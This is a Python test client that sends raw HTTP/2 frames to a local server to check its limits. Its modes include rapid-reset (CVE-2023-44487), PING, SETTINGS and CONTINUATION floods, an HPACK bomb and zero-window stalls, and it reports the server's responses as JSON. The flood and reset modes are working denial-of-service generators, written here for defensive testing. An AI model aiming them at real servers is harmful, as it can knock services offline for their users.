#!/usr/bin/env python3
"""Hostile HTTP/2 clients for the edge's limit tests, built from raw frames (hyperframe + hpack,
the packages under Python's h2), so nothing polite sits between the attack and the server.

Each mode connects (TLS with ALPN h2 and the given CA, or --cleartext), attacks, then reads what
the server sends until it closes or --timeout passes, and prints one JSON line:
  {"goaway": error code or null, "last_stream_id": ..., "resets": {stream: code}, "responses":
   number of HEADERS frames with a :status, "closed": bool, "sent_frames": n, "seconds": t}

Modes:
  rapid-reset N         N x (HEADERS for /, RST_STREAM CANCEL), back to back (CVE-2023-44487)
  ping-flood N          N PING frames
  settings-flood N      N empty SETTINGS frames
  continuation-flood N  HEADERS without END_HEADERS, then N CONTINUATION frames
  hpack-bomb N          N requests, each referencing one 4 KB dynamic-table entry 40 times
  streams N             N requests for /robots.txt in one write, before reading anything
  bad-preface           an HTTP/1.1 request instead of the connection preface
  drain PATH            not hostile: requests PATH, grants no window beyond the first 64 KB until
                        the server's GOAWAY arrives (prints "waiting" first, once data flows),
                        then opens the windows and reads to the end of the stream: shows that a
                        stream in flight at a graceful shutdown finishes ("complete", "sha256")
  order PATH,PATH,...   not hostile: large windows, then every PATH requested in one write (no
                        priority field: the server's defaults apply); prints "order", the paths
                        in the order their streams ended
  zero-window PATH      INITIAL_WINDOW_SIZE 0, one request, never a WINDOW_UPDATE: how long
                        until the server closes
"""
import argparse, json, socket, ssl, sys, time
from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(args):
    raw = socket.create_connection(("127.0.0.1", args.port), timeout=args.timeout)
    if args.cleartext:
        return raw
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(raw, server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    return sock


def request_block(encoder, path="/", extra=()):
    return encoder.encode([(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "localhost"),
                           ("accept-encoding", "identity")] + list(extra))


def read_until_closed(sock, deadline, result, ack_settings=True):
    buffer = b""
    while time.time() < deadline:
        try:
            sock.settimeout(max(0.05, deadline - time.time()))
            data = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            result["closed"] = True
            break
        if not data:
            result["closed"] = True
            break
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            frame, _ = Frame.parse_frame_header(memoryview(buffer[:9]))
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                result["goaway"] = frame.error_code
                result["last_stream_id"] = frame.last_stream_id
            elif isinstance(frame, RstStreamFrame):
                result["resets"][str(frame.stream_id)] = frame.error_code
            elif isinstance(frame, HeadersFrame):
                result["responses"] += 1
            elif isinstance(frame, DataFrame):
                result["data_bytes"] += len(frame.data)
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags and ack_settings:
                try:
                    sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                except OSError:
                    pass
    return result


def drain(sock, encoder, path, deadline, result):
    import hashlib
    sock.sendall(HeadersFrame(1, request_block(encoder, path), flags=["END_HEADERS", "END_STREAM"]).serialize())
    buffer, body, announced, opened, complete = b"", bytearray(), False, False, False
    while time.time() < deadline and not complete:
        sock.settimeout(max(0.05, deadline - time.time()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            break
        if not data:
            result["closed"] = True
            break
        buffer += data
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            frame, _ = Frame.parse_frame_header(memoryview(buffer[:9]))
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, GoAwayFrame):
                result["goaway"], result["last_stream_id"] = frame.error_code, frame.last_stream_id
                if not opened:
                    opened = True
                    sock.sendall(WindowUpdateFrame(0, window_increment=1 << 30).serialize()
                                 + WindowUpdateFrame(1, window_increment=1 << 30).serialize())
            elif isinstance(frame, HeadersFrame):
                result["responses"] += 1
            elif isinstance(frame, DataFrame):
                body += frame.data
                if not announced:
                    announced = True
                    print("waiting", flush=True)
                if "END_STREAM" in frame.flags:
                    complete = True
            elif isinstance(frame, RstStreamFrame):
                result["resets"][str(frame.stream_id)] = frame.error_code
    result["complete"] = complete
    result["data_bytes"] = len(body)
    result["sha256"] = hashlib.sha256(bytes(body)).hexdigest()
    return result


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca")
    p.add_argument("--cleartext", action="store_true")
    p.add_argument("--timeout", type=float, default=10)
    p.add_argument("mode")
    p.add_argument("arg", nargs="?")
    args = p.parse_args()
    sock = connect(args)
    started = time.time()
    result = {"goaway": None, "last_stream_id": None, "resets": {}, "responses": 0, "data_bytes": 0, "closed": False, "sent_frames": 0}
    encoder = Encoder()
    frames = []
    settings = SettingsFrame(0)
    if args.mode == "zero-window":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
    if args.mode == "order":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = (1 << 31) - 1
    if args.mode == "bad-preface":
        sock.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    else:
        sock.sendall(PREFACE + settings.serialize())
    n = int(args.arg) if args.arg and args.arg.isdigit() else 0
    if args.mode == "rapid-reset":
        for i in range(n):
            sid = 1 + 2 * i
            frames.append(HeadersFrame(sid, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]))
            frames.append(RstStreamFrame(sid, error_code=0x8))
    elif args.mode == "ping-flood":
        frames = [PingFrame(0, opaque_data=i.to_bytes(8, "big")) for i in range(n)]
    elif args.mode == "settings-flood":
        frames = [SettingsFrame(0) for _ in range(n)]
    elif args.mode == "continuation-flood":
        frames.append(HeadersFrame(1, request_block(encoder), flags=["END_STREAM"]))
        for i in range(n):
            frames.append(ContinuationFrame(1, encoder.encode([("x-filler-%d" % i, "y" * 100)])))
    elif args.mode == "hpack-bomb":
        big = ("x-bomb", "b" * 4000)
        for i in range(n):
            block = request_block(encoder, extra=[big] * 40)  # after the first, each is a 1-2 byte index
            frames.append(HeadersFrame(1 + 2 * i, block, flags=["END_HEADERS", "END_STREAM"]))
    elif args.mode == "streams":
        for i in range(n):
            frames.append(HeadersFrame(1 + 2 * i, request_block(encoder, "/robots.txt"), flags=["END_HEADERS", "END_STREAM"]))
    elif args.mode == "order":
        paths = args.arg.split(",")
        sock.sendall(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535).serialize()
                     + b"".join(HeadersFrame(1 + 2 * i, request_block(encoder, p), flags=["END_HEADERS", "END_STREAM"]).serialize()
                                for i, p in enumerate(paths)))
        ended, buffer, deadline = [], b"", started + args.timeout
        while len(ended) < len(paths) and time.time() < deadline:
            sock.settimeout(max(0.05, deadline - time.time()))
            try:
                data = sock.recv(65536)
            except (socket.timeout, OSError):
                break
            if not data:
                break
            buffer += data
            while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                length = int.from_bytes(buffer[:3], "big")
                frame, _ = Frame.parse_frame_header(memoryview(buffer[:9]))
                frame.parse_body(memoryview(buffer[9:9 + length]))
                buffer = buffer[9 + length:]
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                elif isinstance(frame, DataFrame):
                    result["data_bytes"] += len(frame.data)
                if isinstance(frame, (DataFrame, HeadersFrame)) and "END_STREAM" in frame.flags:
                    ended.append(paths[(frame.stream_id - 1) // 2])
        result["order"] = ended
        result["seconds"] = round(time.time() - started, 3)
        print(json.dumps(result))
        return
    elif args.mode == "drain":
        drain(sock, encoder, args.arg, started + args.timeout, result)
        result["seconds"] = round(time.time() - started, 3)
        print(json.dumps(result))
        return
    elif args.mode == "zero-window":
        frames.append(HeadersFrame(1, request_block(encoder, args.arg), flags=["END_HEADERS", "END_STREAM"]))
    if frames:
        data = b"".join(f.serialize() for f in frames)
        try:
            sock.sendall(data)
        except OSError:
            result["closed"] = True
    result["sent_frames"] = len(frames)
    read_until_closed(sock, started + args.timeout, result, ack_settings=args.mode != "settings-flood")
    result["seconds"] = round(time.time() - started, 3)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
